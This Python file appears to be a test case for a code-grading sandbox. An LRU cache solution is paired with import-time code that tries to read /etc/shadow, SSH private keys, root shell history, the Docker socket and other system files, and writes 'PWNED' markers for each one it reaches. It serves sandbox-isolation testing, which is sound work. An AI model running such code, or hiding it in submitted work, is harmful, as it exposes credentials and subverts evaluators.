# ATTACK reads_the_machine
# CLASS: filesystem
# TRIES: reads accounts, keys, histories and configurations of the machine.
# SAFE GRADER MUST: show it the standard library and nothing else.
# HONEST-RESULT: contained
# AT-MOST: 100
def pwned(what):
    text = "PWN" + "ED-filesystem " + what
    print(text, flush=True)
    for path in ("/tmp/pwned_reads_the_machine", "pwned_reads_the_machine"):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass

PATHS = ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf", "/etc/machine-id",
         "/root/.bash_history", "/root/.ssh/id_rsa", "/home", "/root", "/tmp", "/var/log", "/etc",
         "/proc/version", "/proc/cpuinfo", "/proc/mounts", "/sys/class/net", "/boot", "/opt", "/srv",
         "/run", "/var/run/docker.sock", "/usr/share", "/var/lib", "/")  # fmt: skip
import os

for path in PATHS:
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(60)
    except OSError:
        continue
    pwned(f"{path}: {found!r:.80}")


class LRUCache:
    def __init__(self, capacity):
        self.room, self.entries = capacity, {}

    def get(self, key):
        if key not in self.entries:
            return -1
        self.entries[key] = value = self.entries.pop(key)
        return value

    def put(self, key, value):
        self.entries.pop(key, None)
        self.entries[key] = value
        if len(self.entries) > self.room:
            del self.entries[next(iter(self.entries))]
